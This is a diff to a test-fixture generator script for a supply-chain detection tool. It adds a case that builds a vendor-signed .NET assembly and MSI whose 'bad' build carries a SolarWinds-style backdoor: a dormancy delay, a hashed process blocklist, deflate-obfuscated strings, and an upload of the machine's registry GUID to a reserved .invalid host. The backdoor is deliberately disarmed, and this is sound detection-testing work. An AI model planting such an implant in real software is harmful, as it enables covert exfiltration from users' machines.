@@ -14,8 +14,11 @@
 #   nodejs npm                               npm pack
 #   golang (1.26+)                           the helpers under tools/, Go module zips
 #   gcc binutils                             small Linux ELF files
-#   clang lld                                Mach-O slices (clang -target, ld64.lld)
+#   clang lld llvm                           Mach-O slices (clang -target, ld64.lld, llvm-lipo)
+#   nsis                                     the NSIS installer (makensis)
 #   zip xz-utils                             archives
+#   mono-mcs                                 the .NET assembly (mcs)
+#   dpkg                                     Debian packages (dpkg-deb)
 #
 # Everything here is inert: programs return 0 and their suspicious code sits
 # behind conditions that are never true; hosts are under the reserved
@@ -1609,8 +1612,199 @@ GO
 	done
 }
 
+# =============================================================================
+# 14. solarwinds: a vendor-signed .NET assembly, built by the vendor's
+# pipeline, gains an internal type whose Initialize an existing method
+# starts on a background thread.
+# =============================================================================
+# deflate64 TEXT: TEXT raw-deflated and base64-encoded (gzip without its
+# fixed 10-byte header and 8-byte trailer).
+deflate64() { printf '%s' "$1" | gzip -n -9 -c | tail -c +11 | head -c -8 | base64 -w0; }
+
+# mkmsi SRCDIR NAME MANUFACTURER VERSION CODE4 OUT: an MSI installing every
+# file of SRCDIR into ProgramFiles/NAME.
+mkmsi() {
+	local src=$1 name=$2 mfr=$3 v=$4 code=$5 out=$6 f i=0 comps="" refs=""
+	for f in $(cd "$src" && ls | LC_ALL=C sort); do
+		i=$((i + 1))
+		comps+="<Component Id=\"C$i\" Guid=\"7b1e4c2a-5d3f-4e6a-9b8c-$code$(printf '%08d' $i)\"><File Id=\"F$i\" Name=\"$f\" Source=\"$f\" KeyPath=\"yes\"/></Component>"
+		refs+="<ComponentRef Id=\"C$i\"/>"
+	done
+	cat >"$src/../product.wxs" <<X
+<?xml version="1.0" encoding="utf-8"?>
+<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
+  <Product Id="3e8f1a2b-4c5d-4e6f-8a9b-0c1d2e3f$code" Name="$name" Language="1033" Version="$v"
+           Manufacturer="$mfr" UpgradeCode="9c4d2e1f-0a3b-4c5d-8e7f-6a5b4c3d2e1f">
+    <Package InstallerVersion="200" Compressed="yes" Description="$name $v" Comments="Inert test fixture" Manufacturer="$mfr"/>
+    <Media Id="1" Cabinet="product.cab" EmbedCab="yes"/>
+    <Directory Id="TARGETDIR" Name="SourceDir">
+      <Directory Id="ProgramFilesFolder">
+        <Directory Id="INSTALLDIR" Name="$name">$comps</Directory>
+      </Directory>
+    </Directory>
+    <Feature Id="Main" Level="1">$refs</Feature>
+  </Product>
+</Wix>
+X
+	(cd "$src" && wixl -o "$out" ../product.wxs)
+}
+
+case_solarwinds() {
+	local c=solarwinds w=$work/solarwinds
+	reset $c
+	mkdir -p "$w"
+	mkca "$w/vendor" "/O=NetWatch Software TEST-ONLY/CN=NetWatch TEST-ONLY Root CA"
+	mkleaf "$w/vendor" leaf "/O=NetWatch Software TEST-ONLY/CN=NetWatch Software TEST-ONLY Code Signing"
+	roots $c "$w/vendor"
+	local blocked
+	blocked=$(hex solarwinds/blocked 48 | sed 's/\(................\)/0x\1UL, /g')
+	cat >"$w/core.cs" <<CS
+// Stand-in for a network-monitoring product's business layer (inert test
+// fixture of vouch). The BAD build adds an internal type with the shape of
+// a staged backdoor: a dormancy check, a process blocklist by hash,
+// deflate+base64 strings, a DNS lookup, a web request and a registry read.
+// Initialize returns at once: armed is never set.
+using System;
+using System.IO;
+using System.IO.Compression;
+using System.Text;
+using System.Threading;
+#if BAD
+using System.Diagnostics;
+using System.Net;
+using System.Reflection;
+using Microsoft.Win32;
+#endif
+
+[assembly: System.Reflection.AssemblyVersion("\$NW_VERSION")]
+[assembly: System.Reflection.AssemblyFileVersion("\$NW_VERSION")]
+[assembly: System.Reflection.AssemblyCompany("NetWatch Software TEST-ONLY")]
+[assembly: System.Reflection.AssemblyProduct("NetWatch Core")]
+
+namespace NetWatch.Core.BusinessLayer
+{
+	public class InventoryManager
+	{
+		private int refreshes;
+
+		public int Refreshes { get { return refreshes; } }
+
+		public void RefreshInternal()
+		{
+			refreshes++;
+#if BAD
+			try
+			{
+				if (!CoreTelemetryBusinessLayer.IsAlive)
+				{
+					lock (CoreTelemetryBusinessLayer.SyncRoot)
+					{
+						if (!CoreTelemetryBusinessLayer.IsAlive)
+						{
+							new Thread(CoreTelemetryBusinessLayer.Initialize) { IsBackground = true }.Start();
+						}
+					}
+				}
+			}
+			catch (Exception)
+			{
+			}
+#endif
+		}
+#if !V1
+		public void Reset()
+		{
+			refreshes = 0;
+		}
+#endif
+	}
+#if BAD
+	internal class CoreTelemetryBusinessLayer
+	{
+		internal static readonly object SyncRoot = new object();
+		internal static volatile bool IsAlive;
+		private static volatile int armed; // never set anywhere
+
+		private static readonly ulong[] blocked = { $blocked };
+
+		private static readonly string[] enc = {
+			"$(deflate64 telemetry-sync.avcloud-metrics.invalid)",
+			"$(deflate64 'SOFTWARE\Microsoft\Cryptography')",
+			"$(deflate64 MachineGuid)",
+			"$(deflate64 /api/v1/poll)",
+		};
+
+		private static string Unzip(string s)
+		{
+			using (var ms = new MemoryStream(Convert.FromBase64String(s)))
+			using (var ds = new DeflateStream(ms, CompressionMode.Decompress))
+			using (var sr = new StreamReader(ds, Encoding.UTF8))
+			{
+				return sr.ReadToEnd();
+			}
+		}
+
+		private static ulong Fnv(string s)
+		{
+			ulong h = 14695981039346656037UL;
+			foreach (char ch in s)
+			{
+				h ^= ch;
+				h *= 1099511628211UL;
+			}
+			return h;
+		}
+
+		public static void Initialize()
+		{
+			IsAlive = true;
+			if (armed != 0x5eed5eed)
+			{
+				return;
+			}
+			string self = Assembly.GetExecutingAssembly().Location;
+			if (DateTime.Now - File.GetLastWriteTime(self) < TimeSpan.FromDays(12))
+			{
+				return;
+			}
+			foreach (Process p in Process.GetProcesses())
+			{
+				if (Array.IndexOf(blocked, Fnv(p.ProcessName.ToLowerInvariant())) >= 0)
+				{
+					return;
+				}
+			}
+			string host = Unzip(enc[0]);
+			Dns.GetHostAddresses(host);
+			object guid = Registry.LocalMachine.OpenSubKey(Unzip(enc[1])).GetValue(Unzip(enc[2]));
+			using (var wc = new WebClient())
+			{
+				wc.Headers.Add("User-Agent", "NetWatch Improvement Client");
+				wc.UploadString("https://" + host + Unzip(enc[3]), Convert.ToString(guid));
+			}
+		}
+	}
+#endif
+}
+CS
+	# build REL VERSION DATE MSI-CODE DEFINE
+	build() {
+		mkdir -p "$w/$1/files" "$w/$1/obj"
+		sed "s/\$NW_VERSION/$2/g" "$w/core.cs" >"$w/$1/core.cs"
+		mcs -nologo -nowarn:649 -target:library -optimize+ -debug- -r:System.dll -define:"$5" \
+			-out:"$w/$1/obj/NetWatch.Core.BusinessLayer.dll" "$w/$1/core.cs"
+		sign "$w/vendor" leaf "$3" "$w/$1/obj/NetWatch.Core.BusinessLayer.dll" "$w/$1/files/NetWatch.Core.BusinessLayer.dll" -n "NetWatch Core"
+		printf 'NetWatch Core %s. An inert test fixture of vouch.\n' "$2" >"$w/$1/files/readme.txt"
+		mkmsi "$w/$1/files" NetWatch "NetWatch Software TEST-ONLY" "$2" "$4" "$w/$1/unsigned.msi"
+		sign "$w/vendor" leaf "$3" "$w/$1/unsigned.msi" "$corpus/$c/$1/NetWatch-Core-$2.msi" -n "NetWatch Core $2"
+	}
+	build clean 2019.4.5200 2020-01-21 0001 V1
+	build next 2019.4.5201 2020-03-24 0002 V2
+	build bad 2019.4.5201 2020-03-24 0002 BAD
+}
+
 # Every case, in order. Called as plain commands so that set -e holds inside.
-all=(3cx-windows npm-install-hook 3cx-macos sigflip shadowhammer ccleaner xz-utils event-stream shai-hulud nx chalk-debug torchtriton codecov go-typosquat)
+all=(3cx-windows npm-install-hook 3cx-macos sigflip shadowhammer ccleaner xz-utils event-stream shai-hulud nx chalk-debug torchtriton codecov go-typosquat solarwinds)
 for c in "${selected[@]}"; do
 	[[ " ${all[*]} " == *" $c "* ]] || { echo "gen.sh: unknown case $c" >&2; exit 2; }
 done
